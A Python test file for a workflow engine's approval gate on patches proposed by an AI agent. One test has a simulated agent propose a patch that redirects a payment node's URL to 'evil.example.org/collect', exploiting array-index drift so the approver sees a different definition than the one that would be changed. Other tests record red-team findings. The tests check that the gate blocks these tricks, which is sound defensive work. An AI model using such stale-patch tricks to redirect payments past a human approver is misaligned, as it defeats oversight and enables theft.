"""A workflow's ``patch_policy`` gates its agents' patches: ``require_approval`` turns a patch into
an Approval of kind ``patch`` that a person decides; ``deny`` refuses it outright."""

from __future__ import annotations

from approvals.models import Approval
from tests.agents.flows import WAITING, add_after, agent, edge, finish, http, node, start, tool_messages
from tests.approvals.runs import wait_until
from tests.conftest import wait_for_run
from workflows.models import Artifact, Event, NodeRun, RunPatch

TEXT = {"content": "Proposed a notify step."}


def propose_notify(api, fake_llm, remote, policy: str) -> str:
    notify = http("notify", f"{remote.base}/echo", method="POST", payload={"msg": "done"})
    fake_llm.reset([{"tool_calls": [("patch_workflow", {"description": "tell the team",
                                                        "operations": add_after("plan", notify)})]}, TEXT])
    return start(api, [agent()], metadata={"patch_policy": policy})


def held(api, fake_llm, remote) -> tuple[str, Approval]:
    run_id = propose_notify(api, fake_llm, remote, "require_approval")
    run = wait_for_run(run_id, statuses=WAITING)
    assert run.status == "waiting_for_approval", (run.status, run.error)
    assert tool_messages(fake_llm.requests[1])[0]["status"] == "pending_approval"
    assert node(run, "plan").status == "completed"
    assert not NodeRun.objects.filter(run=run, node_id="notify").exists()
    approval = Approval.objects.get(run=run)
    assert (approval.kind, approval.status, approval.node_id) == ("patch", "pending", "plan")
    assert approval.patch.status == "pending_approval" and approval.message == "tell the team"
    assert approval.context["before"] == {"nodes": [{"id": "plan", "type": "agent"}], "edges": []}
    assert approval.context["after"] == {"nodes": [{"id": "plan", "type": "agent"}, {"id": "notify", "type": "http"}],
                                         "edges": [["plan", "notify"]]}
    assert approval.context["operations"] == approval.patch.operations
    assert run.current_artifact_id == run.base_artifact_id
    return run_id, approval


def test_require_approval_then_approve_applies_the_patch_and_the_node_runs(engine, api, fake_llm, remote):
    run_id, approval = held(api, fake_llm, remote)

    response = api.post(f"/api/v1/approvals/{approval.pk}/decide", {"approve": True}, format="json")
    assert response.status_code == 200, response.json()
    run = finish(run_id)

    assert run.status == "completed", run.error
    patch = RunPatch.objects.get(run=run)
    assert patch.status == "applied" and run.current_artifact_id == patch.after_artifact_id, patch.reason
    assert node(run, "notify").status == "completed" and len(remote.hits("/echo")) == 1
    assert Event.objects.filter(run=run, type="patch_applied").count() == 1


def test_require_approval_then_reject_leaves_the_run_as_it_was(engine, api, fake_llm, remote):
    run_id, approval = held(api, fake_llm, remote)

    response = api.post(f"/api/v1/approvals/{approval.pk}/decide", {"approve": False}, format="json")
    assert response.status_code == 200, response.json()
    run = finish(run_id)

    assert run.status == "completed", run.error
    patch = RunPatch.objects.get(run=run)
    assert patch.status == "rejected" and "rejected" in patch.reason
    assert run.current_artifact_id == run.base_artifact_id
    assert not NodeRun.objects.filter(run=run, node_id="notify").exists() and remote.hits("/echo") == []
    assert Event.objects.filter(run=run, type="patch_rejected").count() == 1


def test_a_held_patch_applies_only_to_the_definition_its_approver_saw(engine, api, fake_llm, remote):
    """JSON Pointers name array positions. P1 reads as changing ``log`` (``/nodes/3``); P2 moves
    ``pay`` to the end, after which ``/nodes/3`` is ``pay``. Approved in the order P2, P1, P1 once
    rewrote pay's URL to the attacker's: approved against one definition, applied to another."""
    evil = "https://evil.example.org/collect"
    p1 = [{"op": "replace", "path": "/nodes/3/config/url", "value": evil}]
    p2 = [{"op": "move", "from": "/nodes/2", "path": "/nodes/-"}]
    fake_llm.reset([{"tool_calls": [("patch_workflow", {"description": "log elsewhere", "operations": p1}),
                                    ("patch_workflow", {"description": "tidy the order", "operations": p2})]}, TEXT])
    review = {"id": "review", "type": "hitl", "config": {"message": "Pay?"}}
    run_id = start(api, [agent(), review, http("pay", f"{remote.base}/echo/pay", method="POST"),
                         http("log", f"{remote.base}/echo/log", method="POST")],
                   [edge("plan", "review"), edge("review", "pay"), edge("pay", "log")],
                   metadata={"patch_policy": "require_approval"})
    run = wait_for_run(run_id, statuses=WAITING)
    assert run.status == "waiting_for_approval", (run.status, run.error)
    first, second = RunPatch.objects.filter(run=run).order_by("seq")
    assert (first.operations, second.operations) == (p1, p2)
    assert first.status == second.status == "pending_approval"
    shown = Approval.objects.get(patch=first).context
    assert [n["id"] for n in shown["before"]["nodes"]] == ["plan", "review", "pay", "log"]  # /nodes/3 is log

    answers = {}
    for patch in (second, first):
        approval = Approval.objects.get(patch=patch)
        response = api.post(f"/api/v1/approvals/{approval.pk}/decide", {"approve": True}, format="json")
        assert response.status_code == 200, response.json()
        answers[patch.pk] = response.json()

    run.refresh_from_db()
    definition = Artifact.objects.get(pk=run.current_artifact_id).content
    urls = {n["id"]: n["config"].get("url") for n in definition["nodes"]}
    assert (urls["pay"], urls["log"]) == (f"{remote.base}/echo/pay", f"{remote.base}/echo/log")
    assert [n["id"] for n in definition["nodes"]] == ["plan", "review", "log", "pay"]
    first.refresh_from_db()
    second.refresh_from_db()
    assert second.status == "applied" and run.current_artifact_id == second.after_artifact_id
    assert first.status == "rejected" and first.reason.startswith("stale:"), first.reason
    assert f"patch {second.seq} applied since" in first.reason
    (rejected,) = Event.objects.filter(run=run, type="patch_rejected").values_list("data", flat=True)
    assert (rejected["patch_id"], rejected["rule"], rejected["reason"]) == (first.pk, "stale_base", first.reason)
    # the approver who approved it is told in the answer that it was refused, and why
    assert answers[first.pk]["status"] == "approved"
    assert answers[first.pk]["patch"] == {"seq": first.seq, "status": "rejected", "reason": first.reason}
    assert answers[second.pk]["patch"] == {"seq": second.seq, "status": "applied", "reason": ""}

    gate = wait_until(lambda: Approval.objects.filter(run_id=run_id, node_id="review", kind="node").first(),
                      what="review waiting for its approver")
    assert api.post(f"/api/v1/approvals/{gate.pk}/decide", {"approve": True}, format="json").status_code == 200
    run = finish(run_id)
    assert run.status == "completed", run.error
    assert len(remote.hits("/echo/pay")) == 1 and len(remote.hits("/echo/log")) == 1


def test_a_held_patch_of_a_cancelled_run_is_rejected_with_it(engine, api, fake_llm, remote):
    """The run's approvals were cancelled with it, and its held patch stayed ``pending_approval``
    for ever, with nothing that could settle it (a red team's find)."""
    run_id, approval = held(api, fake_llm, remote)

    assert api.post(f"/api/v1/runs/{run_id}/cancel", {}, format="json").status_code == 200
    run = wait_for_run(run_id)

    assert run.status == "cancelled" and Approval.objects.get(pk=approval.pk).status == "cancelled"
    patch = RunPatch.objects.get(run=run)
    assert (patch.status, patch.reason) == ("rejected", "run is cancelled")
    rejected = Event.objects.get(run=run, type="patch_rejected")
    assert rejected.data["patch_id"] == patch.pk and rejected.data["reason"] == "run is cancelled"
    assert api.get(f"/api/v1/runs/{run_id}/patches").json()["results"][0]["status"] == "rejected"


def test_deny_refuses_the_agents_patch(engine, api, fake_llm, remote):
    run = finish(propose_notify(api, fake_llm, remote, "deny"))

    assert run.status == "completed", run.error
    refusal = tool_messages(fake_llm.requests[1])[0]
    assert refusal["status"] == "error" and refusal["error"] == "patch_denied"
    assert not RunPatch.objects.filter(run=run).exists() and not Approval.objects.filter(run=run).exists()
    assert list(run.node_runs.values_list("node_id", flat=True)) == ["plan"]
    assert run.current_artifact_id == run.base_artifact_id


def test_a_held_patch_approved_after_the_owner_turned_the_policy_to_deny_is_not_applied(engine, api, fake_llm,
                                                                                         remote):
    """``deny`` is judged with the rest of the policy, so it holds for a held patch approved later
    too: the owner's patch of ``metadata.patch_policy`` commutes with the agent's node, and its
    approval applied the agent's patch under ``deny`` (a fresh-eyes review's find)."""
    run_id, approval = held(api, fake_llm, remote)
    deny = [{"op": "replace", "path": "/metadata/patch_policy", "value": "deny"}]
    response = api.post(f"/api/v1/runs/{run_id}/patches", {"operations": deny, "description": "no more"},
                        format="json")
    assert response.status_code == 201, response.json()

    response = api.post(f"/api/v1/approvals/{approval.pk}/decide", {"approve": True}, format="json")
    assert response.status_code == 200, response.json()
    run = finish(run_id)

    patch = RunPatch.objects.get(run=run, node_id="plan")
    assert patch.status == "rejected" and "patch_policy is deny" in patch.reason, (patch.status, patch.reason)
    assert response.json()["patch"]["status"] == "rejected"
    assert run.status == "completed" and not NodeRun.objects.filter(run=run, node_id="notify").exists()
    assert remote.hits("/echo") == []
